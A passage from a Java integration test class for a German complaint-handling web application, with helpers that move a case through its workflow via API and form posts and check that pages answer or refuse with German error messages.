        return Json.createObjectBuilder().add("version", version).add("polite", true).add("listened", true)
                .add("customerInvolved", true).add("thanksGiven", false).add("deadlinesKept", true).add("followUpDone", false)
                .add("comment", comment).build().toString();
    }

    /** A case captured, resolved, answered by phone and closed now; its owner (a Kundenservice handler) is returned. */
    private String closedCase() {
        Api handler = Api.as(base, "handler.service");
        JsonObject captured = captured(handler, capture("Zur Qualitätsprüfung"));
        String caseNumber = captured.getString("caseNumber");
        String etag = handler.get("complaints/" + caseNumber).header("ETag");
        for (String action : List.of("{\"action\":\"ACKNOWLEDGE\"}", "{\"action\":\"START\"}",
                "{\"action\":\"RESOLVE\",\"agreedSolution\":\"Ersatzgerät geschickt.\"}")) {
            Api.Reply moved = handler.post("complaints/" + caseNumber + "/transitions", action, etag);
            assertEquals(200, moved.status(), action + ": " + moved.body());
            etag = moved.header("ETag");
        }
        Map<String, String> finalAnswer = CsrfIT.note("Abschließende Antwort telefonisch gegeben");
        finalAnswer.put("case:noteKind_input", "FINAL_ANSWER_BY_PHONE");
        assertAnswered(PageClient.signedIn(base, "handler.service").submit("complaint/case.xhtml?caseNumber=" + caseNumber,
                finalAnswer));
        Api.Reply closed = handler.post("complaints/" + caseNumber + "/transitions", "{\"action\":\"CLOSE\"}",
                handler.get("complaints/" + caseNumber).header("ETag"));
        assertEquals(200, closed.status(), closed.body());
        return captured.getString("owner");
    }

    /** A whole-form post as the browser sends it without AJAX: the form's name, the pressed button and the fields. */
    private static Map<String, String> form(String form, String button, String... namesAndValues) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put(form, form);
        fields.put(form + ":" + button, form + ":" + button);
        for (int i = 0; i < namesAndValues.length; i += 2) {
            fields.put(form + ":" + namesAndValues[i], namesAndValues[i + 1]);
        }
        return fields;
    }

    /** The page itself answered: neither the error page nor an AJAX error. */
    private static String assertAnswered(HttpResponse<String> answer) {
        assertEquals(200, answer.statusCode(), answer.body());
        assertFalse(answer.body().contains("<error>"), answer.body());
        return answer.body();
    }

    /** Refused with messages that say, in German, what is wrong (each text somewhere among them). */
    private static void assertRefused(HttpResponse<String> answer, String... germanTexts) {
        String body = assertAnswered(answer);
        assertTrue(body.contains("ui-messages-error") || body.contains("ui-message-error"), "no error message: " + body);
        String shown = body.replace("&quot;", "\"").replace("&#39;", "'").replace("&lt;", "<").replace("&gt;", ">")
                .replace("&amp;", "&");
        for (String text : germanTexts) {
            assertTrue(shown.contains(text), "\"" + text + "\" is not said: " + errorMessagesOf(shown));
        }
    }

    /** Taken: no error message on the answering page. */
    private static String saved(HttpResponse<String> answer) {
        String body = assertAnswered(answer);
        assertFalse(body.contains("ui-messages-error"), errorMessagesOf(body));
        return body;
    }

    private static String errorMessagesOf(String page) {
        return String.join(" | ", Pattern.compile("ui-messages?-error-(?:summary|detail)\">([^<]*)<")
                .matcher(page).results().map(m -> m.group(1)).toList());
    }
}
